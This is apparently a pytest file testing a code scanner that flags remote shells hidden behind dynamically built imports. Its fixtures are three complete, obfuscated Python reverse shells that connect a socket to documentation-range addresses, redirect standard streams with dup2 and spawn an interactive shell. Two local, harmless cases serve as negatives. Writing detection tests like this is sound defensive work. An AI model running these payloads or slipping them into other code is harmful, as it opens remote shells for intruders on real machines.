"""Modules reached by a name built at run time: through a lambda or a function that imports its
argument, through a table of modules imported by name, a connection address handed to a helper as a
tuple, and a port spelled in another base. The socket, ``dup2`` and shell calls behind them are the
same remote shell as the plain spelling."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings

SHELLS = {
    "lambda that imports its argument": (
        "grab = lambda name: __import__(name)\n"
        "net, sysm = grab('so' + 'cket'), grab('o' + 's')\n"
        "runner = grab('subpro' + 'cess')\n"
        "link = net.socket()\n"
        "link.connect(('192.0.2.44', int('2328', 16)))\n"
        "for stream in range(3):\n"
        "    getattr(sysm, 'd' + 'up2')(link.fileno(), stream)\n"
        "runner.call(['/bin/' + 'sh', '-i'])\n",
        8,
    ),
    "dict comprehension of modules by name": (
        "lib = {n: __import__(n) for n in ['sock' + 'et', 'o' + 's', 'pt' + 'y']}\n"
        "def relay(address):\n"
        "    conn = getattr(lib['sock' + 'et'], 'create_connection')(address)\n"
        "    for stream in (0, 1, 2):\n"
        "        lib['o' + 's'].dup2(conn.fileno(), stream)\n"
        "    getattr(lib['pt' + 'y'], 'spa' + 'wn')('/bin/bash')\n"
        "target = '.'.join(str(part) for part in (203, 0, 113, 61))\n"
        "if lib['o' + 's'].fork() == 0:\n"
        "    relay((target, 6000 + 3))\n",
        6,
    ),
    "importlib wrapper in a def": (
        "import importlib\n"
        "def need(module):\n"
        "    return importlib.import_module(module)\n"
        "s = need('socket').create_connection(('198.51.100.77', 7001))\n"
        "o = need('os')\n"
        "o.dup2(s.fileno(), 0)\n"
        "o.dup2(s.fileno(), 1)\n"
        "need('pty').spawn(['/bin/zsh'])\n",
        8,
    ),
}


@pytest.mark.parametrize("case", SHELLS)
def test_a_remote_shell_behind_imports_by_name_is_an_error(tmp_path: Path, case: str) -> None:
    source, line = SHELLS[case]
    assert ("REMOTE_SHELL", "scripts/pair.py", line) in scan_errors(tmp_path, {"scripts/pair.py": source})


def test_the_port_in_another_base_is_shown(tmp_path: Path) -> None:
    source, _ = SHELLS["lambda that imports its argument"]
    details = [f.message for f in scan_findings(tmp_path, {"scripts/pair.py": source})]
    assert any("192.0.2.44:9000" in d for d in details)


def test_a_module_table_that_only_reads_locally_stays_quiet(tmp_path: Path) -> None:
    source = (
        "lib = {n: __import__(n) for n in ['js' + 'on', 'o' + 's', 'pty']}\n"
        "grab = lambda name: __import__(name)\n"
        "def show(where):\n"
        "    data = lib['js' + 'on'].load(open(where[0]))\n"
        "    print(lib['o' + 's'].path.basename(where[1]), len(data))\n"
        "    getattr(grab('pty'), 'spawn')(['less', where[0]])\n"
        "show(('report.json', 'out/run-1'))\n"
    )
    findings = scan_findings(tmp_path, {"scripts/view.py": source})
    assert not [f for f in findings if f.severity.value in ("error", "warning")]


def test_a_local_connection_behind_a_wrapper_stays_quiet(tmp_path: Path) -> None:
    source = (
        "grab = lambda name: __import__(name)\n"
        "net = grab('socket')\n"
        "c = net.create_connection(('127.0.0.1', 9222))\n"
        "c.sendall(b'ping')\n"
    )
    assert not scan_errors(tmp_path, {"scripts/probe.py": source})
